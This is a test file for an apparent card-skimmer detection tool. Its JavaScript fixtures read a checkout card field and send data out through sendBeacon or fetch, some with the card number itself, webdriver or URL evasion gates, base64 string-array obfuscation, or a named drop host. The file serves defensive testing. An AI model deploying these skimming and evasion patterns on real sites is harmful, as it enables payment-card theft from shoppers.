"""policy/cooccurrence.py: card reads beside a send to an unknown host, with no data path, are
lowered in a script static analysis read whole — and only there."""

from __future__ import annotations

import base64

import pytest

from skimscan.models import Severity, Verdict
from skimscan.policy.cooccurrence import COOCCURRENCE_RULES

VENDOR = "https://collect.vendor-x.example/c"
# A fraud-style collector: it watches the card field and the pay button, and sends typing
# timings, never the value.
TIMINGS = (
    "var t0 = 0, gaps = [];\n"
    "var card = document.querySelector('#cc_number');\n"
    "card.addEventListener('keydown', function () { var t = Date.now(); "
    "if (t0) gaps.push(t - t0); t0 = t; });\n"
    "document.querySelector('#pay').addEventListener('click', function () {\n"
    f"  navigator.sendBeacon('{VENDOR}', JSON.stringify({{gaps: gaps, n: card.value.length}}));"
    " });\n")


def lowered(report) -> list:  # type: ignore[no-untyped-def]
    return [f for f in report.findings if f.rule in COOCCURRENCE_RULES]


def test_read_whole_with_no_path_is_lowered_to_suspicious(analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(TIMINGS)
    found = lowered(report)
    assert found and all(f.severity is Severity.MEDIUM and f.evidence["lowered_from"] == "high"
                         and "no data path" in f.message for f in found)
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("why, extra", [
    ("a statement that does not parse", "var broken = ;\n"),
    ("obfuscator names", "".join(f"var _0x{i:04x} = {i};\n" for i in range(12))),
    ("a URL gate", "if (location.href.indexOf('checkout') < 0) { throw 0; }\n"),
    ("a webdriver test it hides behind", "if (navigator.webdriver) { throw 0; }\n"),
    ("a webdriver answer stored, then tested",
     "var env = {wd: !!navigator.webdriver}; if (env.wd) { throw 0; }\n"),
])
def test_not_lowered_where_the_script_was_not_read_whole_or_hides(  # type: ignore[no-untyped-def]
        why: str, extra: str, analyze) -> None:
    report = analyze(TIMINGS + extra)
    assert report.verdict is Verdict.MALICIOUS, why
    assert all("lowered_from" not in f.evidence for f in lowered(report)), why


def test_an_automation_check_sent_as_a_signal_hides_nothing(analyze) -> None:  # type: ignore[no-untyped-def]
    """Fraud and bot-detection profiles report `navigator.webdriver` as one of their signals:
    a check whose answer is data is not a gate, and the combinations are weighed as usual."""
    report = analyze(TIMINGS.replace("n: card.value.length",
                                     "n: card.value.length, wd: !!navigator.webdriver"))
    assert report.verdict is Verdict.SUSPICIOUS, report.findings
    assert {"automation-detection"} <= {f.rule for f in report.findings}
    assert all(f.evidence.get("lowered_from") == "high" for f in lowered(report))


def test_nothing_is_lowered_where_a_data_path_carries_the_card(analyze) -> None:  # type: ignore[no-untyped-def]
    """The card reaches a sink (here the same host): the combinations stay as they are."""
    report = analyze(TIMINGS.replace("n: card.value.length", "n: card.value"))
    assert report.verdict is Verdict.MALICIOUS
    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))


def test_nothing_is_lowered_where_the_card_goes_elsewhere(analyze) -> None:  # type: ignore[no-untyped-def]
    """The vendor gets timings, but the card itself goes to a destination computed at run
    time: the script is not one whose reads are accounted for."""
    report = analyze(TIMINGS + "fetch(document.body.getAttribute('data-u'), "
                               "{method: 'POST', body: card.value});\n")
    assert all("lowered_from" not in f.evidence for f in lowered(report))
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("host", ["https://google-analytics-tag.com/c",  # look-alike
                                  "https://baways.com/c"])  # a documented drop host
def test_a_look_alike_or_known_bad_host_is_never_lowered(host: str, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(TIMINGS.replace(VENDOR, host))
    assert report.verdict is Verdict.MALICIOUS
    assert lowered(report) and all("lowered_from" not in f.evidence for f in lowered(report))


def obfuscated(n: str = "card[_0x1c(0xb)][_0x1c(0xc)]", extra: str = "") -> str:
    """TIMINGS as an obfuscator leaves it: names made `_0x…`, every string in a base64
    string array read through an accessor (javascript-obfuscator's string-array preset)."""
    words = ["querySelector", "#cc_number", "addEventListener", "keydown", "now", "push",
             "#pay", "click", "sendBeacon", VENDOR, "stringify", "value", "length"]
    table = ", ".join(repr(base64.b64encode(w.encode()).decode()) for w in words)

    def s(w: str) -> str:
        return f"_0x1c(0x{words.index(w):x})"

    return (
        f"var _0x3f2a = [{table}];\n"
        "function _0x1c(_0x4b1e) { _0x4b1e = _0x4b1e - 0x0; return atob(_0x3f2a[_0x4b1e]); }\n"
        "var _0x5d7c = 0x0, _0x2e9f = [];\n"
        f"var card = document[{s('querySelector')}]({s('#cc_number')});\n"
        f"card[{s('addEventListener')}]({s('keydown')}, function () {{ var _0x1a8b = "
        f"Date[{s('now')}](); if (_0x5d7c) _0x2e9f[{s('push')}](_0x1a8b - _0x5d7c); "
        "_0x5d7c = _0x1a8b; });\n"
        f"document[{s('querySelector')}]({s('#pay')})[{s('addEventListener')}]({s('click')}, "
        "function () {\n"
        f"  var _0x3c4d = {{gaps: _0x2e9f, n: {n}}}, _0x6e1f = {s(VENDOR)}, _0x7a2b = 0x1;\n"
        f"  navigator[{s('sendBeacon')}](_0x6e1f, JSON[{s('stringify')}](_0x3c4d));{extra}\n"
        "});\n")


def test_an_obfuscated_script_the_rewrite_undid_is_weighed_on_its_clean_program(  # type: ignore[no-untyped-def]
        analyze) -> None:
    """Obfuscation alone is no data path: once deobfuscation undid every use of its string
    array, the clean program is read whole, and the vendor still gets only timings."""
    report = analyze(obfuscated())
    found = {f.rule: f for f in lowered(report)}
    assert found["obfuscated-card-collector"].evidence["lowered_from"] == "critical"
    assert all(f.severity is Severity.MEDIUM for f in found.values())
    assert report.verdict is Verdict.SUSPICIOUS


def test_an_obfuscated_script_that_sends_the_card_stays_malicious(analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(obfuscated(n="card[_0x1c(0xb)]"))
    assert report.verdict is Verdict.MALICIOUS
    assert all("lowered_from" not in f.evidence for f in lowered(report))


def test_a_decoder_still_called_at_run_time_keeps_the_combinations(analyze) -> None:  # type: ignore[no-untyped-def]
    """One call the rewrite could not replace (its index is known only at run time) may name
    the method or the host: the clean program is not all there is."""
    report = analyze(obfuscated(extra=" _0x2e9f[_0x1c(Date.now() % 0x3)];"))
    assert report.verdict is Verdict.MALICIOUS
    assert all("lowered_from" not in f.evidence for f in lowered(report))
